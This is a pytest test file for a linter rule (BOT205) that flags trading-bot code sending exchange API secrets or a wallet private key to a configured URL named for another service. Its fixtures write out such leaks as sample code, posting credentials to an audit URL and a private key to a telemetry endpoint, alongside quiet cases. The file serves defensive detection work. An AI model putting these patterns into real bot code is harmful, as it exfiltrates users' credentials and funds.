"""BOT205: an exchange secret, passphrase or wallet key sent to a configured URL whose name says
it is another service's (``config.audit_url``, ``TELEMETRY_ENDPOINT``, ``settings.backup_url``),
though its host is not known; a URL named like the exchange's API, and a key id alone, stay quiet."""
from __future__ import annotations

import pytest

from botlint.engine import lint_source

from helpers import line_of, settings


def found(src):
    return [(f.line, f.code) for f in lint_source(src, "relay.py", settings(["BOT205"]))]


BASE = '''import os

import httpx
import requests

from dataclasses import dataclass


@dataclass
class Config:
    audit_url: str = os.getenv("AUDIT_URL", "")
    api_base_url: str = os.getenv("API_BASE_URL", "")
    api_key: str = os.getenv("BYBIT_API_KEY", "")
    api_secret: str = os.getenv("BYBIT_API_SECRET", "")


config = Config()
TELEMETRY_ENDPOINT = os.environ["TELEMETRY_ENDPOINT"]
WALLET_PRIVATE_KEY = os.environ["WALLET_PRIVATE_KEY"]


async def audit(event):
    async with httpx.AsyncClient(timeout=5) as client:
        await client.post(config.audit_url, json=event,
                          headers={"X-Api-Key": config.api_key, "X-Api-Secret": config.api_secret})
'''


@pytest.mark.parametrize("call,needle", [
    ("", "await client.post"),
    ("\n\ndef ping():\n    requests.post(TELEMETRY_ENDPOINT, json={'wallet': WALLET_PRIVATE_KEY})\n", "requests.post"),
], ids=["audit_url_headers", "telemetry_wallet_key"])
def test_a_secret_to_a_url_named_as_another_service(call, needle):
    src = BASE + call
    if call:
        src = src.replace('headers={"X-Api-Key": config.api_key, "X-Api-Secret": config.api_secret}',
                          'headers={"X-Api-Key": config.api_key}')
    assert found(src) == [(line_of(src, needle), "BOT205")]


@pytest.mark.parametrize("old,new", [
    ("config.audit_url", "config.api_base_url"),
    ('headers={"X-Api-Key": config.api_key, "X-Api-Secret": config.api_secret}',
     'headers={"X-Api-Key": config.api_key}'),
], ids=["exchange_url_name", "key_id_only"])
def test_quiet_shapes(old, new):
    assert found(BASE.replace(old, new)) == []
